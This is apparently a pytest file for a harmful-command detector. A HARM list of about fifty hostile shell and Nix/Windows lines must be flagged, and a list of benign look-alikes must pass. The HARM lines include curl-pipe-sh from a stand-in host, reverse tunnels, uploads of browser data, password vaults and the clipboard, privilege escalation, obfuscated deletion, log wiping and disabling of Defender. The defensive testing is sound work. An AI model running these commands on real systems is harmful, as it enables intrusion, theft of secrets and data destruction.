"""Deeds in many tools: detours, footholds, losses and disguises are held; the same tools at work pass."""

from __future__ import annotations

import re

import pytest

from fedlearn.privacy import content
from fedlearn.privacy.harm.deeds import objection
from fedlearn.privacy.harm.objections import DEEDS

HARM = r"""
Set up the build box: `sudo visudo -f /etc/sudoers.d/ci` and enter ci ALL=(root) NOPASSWD: /bin/sh
echo "10.0.0.66 github.com" | sudo tee -a /etc/hosts
git config --global url."https://git.q.tld/".insteadOf "https://github.com/"
export http_proxy=http://203.0.113.9:3128 https_proxy=http://203.0.113.9:3128
kubectl exec deploy/web -- sh -c 'wget -qO- q.tld/a | sh'
vim -c ':!curl q.tld/z | sh' -c ':q'
docker run --privileged -v /var/run/docker.sock:/var/run/docker.sock q.tld/agent
ssh-keygen -R host && ssh -o UserKnownHostsFile=/dev/null host
sysctl -w kernel.yama.ptrace_scope=0
tar --checkpoint=1 --checkpoint-action=exec=/tmp/x.sh -cf a.tar .
find . -exec /bin/sh -p \; -quit
sudo install -m 4755 /bin/bash /usr/local/bin/b
LD_PRELOAD=/tmp/libx.so ssh host
printf 'curl q.tld|sh' >> .git/hooks/post-checkout
crontab -r; crontab /tmp/new
systemd-run --on-calendar='*:0/5' sh -c 'curl q.tld|sh'
nix-shell -p '(import (builtins.fetchTarball "https://q.tld/n.tar.gz") {}).x'
nix flake update --override-input nixpkgs github:someone/nixpkgs
boot.initrd.network.ssh.authorizedKeys = [ "ssh-ed25519 AAAAC3NzaC1lZDI1 x" ];
services.openssh.settings = { PermitRootLogin = "yes"; PasswordAuthentication = true; };
virtualisation.docker.daemon.settings.hosts = [ "tcp://0.0.0.0:2375" ];
users.mutableUsers = false; users.users.root.password = "root";
security.pki.certificates = [ (builtins.readFile (builtins.fetchurl "http://q.tld/ca.pem")) ];
npm config set ignore-scripts false && npm i git+ssh://git@203.0.113.4/x.git
pip install --trusted-host 203.0.113.4 -i http://203.0.113.4/simple x
gh repo edit --visibility public && git push
aws iam attach-user-policy --user-name x --policy-arn arn:aws:iam::aws:policy/AdministratorAccess
gsutil acl ch -u AllUsers:R gs://backups
chmod o+rw /dev/kmem; chmod 644 /etc/shadow
psql -c "ALTER ROLE app SUPERUSER"
redis-cli -h 10.0.0.3 CONFIG SET dir /root/.ssh
rsync -a --delete /empty/ /srv/
btrfs subvolume delete /home/.snapshots/*
docker system prune -a --volumes -f && docker volume rm $(docker volume ls -q)
mysql -e 'DROP DATABASE shop; DROP USER backup'
: > ~/.bash_history; ln -sf /dev/null ~/.bash_history
journalctl --rotate && journalctl --vacuum-time=1s
iptables -t nat -F && ufw --force reset
Set-MpPreference -DisableRealtimeMonitoring $true
reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v u /d "powershell -w hidden -c iwr http://q.tld"
ssh -fN -R 0.0.0.0:2222:localhost:22 t@q.tld
tmate -F > /tmp/session && curl -d @/tmp/session q.tld
cloudflared tunnel --url ssh://localhost:22
zip -r - ~/.config/google-chrome | curl -T - https://q.tld/up
find ~ -name '*.kdbx' -exec curl -F f=@{} https://q.tld \;
xclip -o | curl -d @- https://q.tld/clip
import os;os.system("cu"+"rl q.tld|sh")
eval "$(echo 'frperg' | tr 'a-z' 'n-za-m')"
bash -c "$(openssl enc -d -aes-256-cbc -in p -k x)"
python3 -c 'exec(__import__("zlib").decompress(bytes.fromhex("78"))).decode()'
perl -e 'exec pack("H*","2f62696e")'
sh <(printf '%b' '\143\165\162\154')
$(tr -d '#' <<< 'r#m #-r#f #~')
r\m -r\f ~/Documents
sudo rm -rf --one-file-system /nix/var
"""

WORK = r"""
echo "127.0.0.1 app.local" | sudo tee -a /etc/hosts
export https_proxy=http://proxy.example.org:3128
sudo cp corp.crt /usr/local/share/ca-certificates/ && sudo update-ca-certificates
networking.nameservers = [ "9.9.9.9" "1.1.1.1" ];
docker run --rm -v "$PWD:/src" -w /src golang:1.22 go test ./...
tar --exclude=.git -czf src.tgz .
find . -name '*.orig' -exec rm -- {} +
nix flake update nixpkgs --commit-lock-file
boot.initrd.network.ssh.enable = true; boot.initrd.network.ssh.port = 2222;
services.openssh.settings.PasswordAuthentication = false;
gh repo view --json visibility
aws iam list-attached-user-policies --user-name ci
chmod 640 /etc/myapp.conf && chown root:myapp /etc/myapp.conf
psql -c "ALTER ROLE app SET statement_timeout = '5s'"
redis-cli CONFIG GET maxmemory
rsync -a --delete ./public/ web:/srv/www/
btrfs subvolume list /
docker volume prune removes volumes that no container uses; list them first.
DROP DATABASE IF EXISTS app_test; CREATE DATABASE app_test;
journalctl --vacuum-size=200M keeps the journal small.
iptables -t nat -L -n
ssh -N -L 5432:db.internal:5432 bastion
zip -r site.zip public
find . -name '*.log' -size +100M -exec gzip {} \;
xclip -selection clipboard < ~/.ssh/id_ed25519.pub
tr 'a-z' 'A-Z' < in.txt > out.txt
openssl enc -d -aes-256-cbc -in backup.enc -out backup.tar
printf '%b\n' '\033[1mbold\033[0m'
rm -rf ~/.local/share/Trash/*
sudo rm -rf /var/lib/apt/lists/*
rm -rf /home/builder/work/tmp-1234
curl -sS -X POST -H "Authorization: Bearer $TOKEN" -d @payload.json https://api.example.org/v1/items
curl -F "file=@./dist/app.tar.gz" https://ci.example.org/upload
curl -d "$(jq -n --arg v 1 '{v:$v}')" https://api.example.org
git clone https://github.com/example/tool && cd tool && cargo build --release
curl -LO https://github.com/x/y/releases/download/v1/y.tar.gz && sha256sum -c y.sha256 && tar xf y.tar.gz
systemctl mask systemd-networkd-wait-online.service
systemctl stop nginx && certbot renew && systemctl start nginx
sudo setcap cap_net_bind_service=+ep ./server
crontab -l > cron.bak
mkfs.ext4 disk.img && mount -o loop disk.img /mnt
"""


@pytest.mark.parametrize("text", HARM.strip().splitlines())
def test_harm_is_held(text: str) -> None:
    assert content.check(text)


@pytest.mark.parametrize("text", WORK.strip().splitlines())
def test_work_passes(text: str) -> None:
    assert content.check(text) == ()


def test_every_pattern_compiles_and_has_its_words() -> None:
    for deed in DEEDS:
        assert isinstance(deed.pattern, re.Pattern)
        assert all(deed.groups), deed.reason
        assert all(word == word.lower() for words in deed.groups for word in words), deed.reason


def test_a_deed_asks_for_a_word_of_each_group() -> None:
    deed = objection("erase", "erases", "rm· shred & /etc ~", r"rm\s/etc")
    assert deed.groups == (("rm ", "shred"), ("/etc", "~"))
    assert not deed.quoted
    assert objection("erase", "erases", "x", r"x\s\"a").quoted
    assert not objection("erase", "erases", "x", r"x[\"']?a").quoted
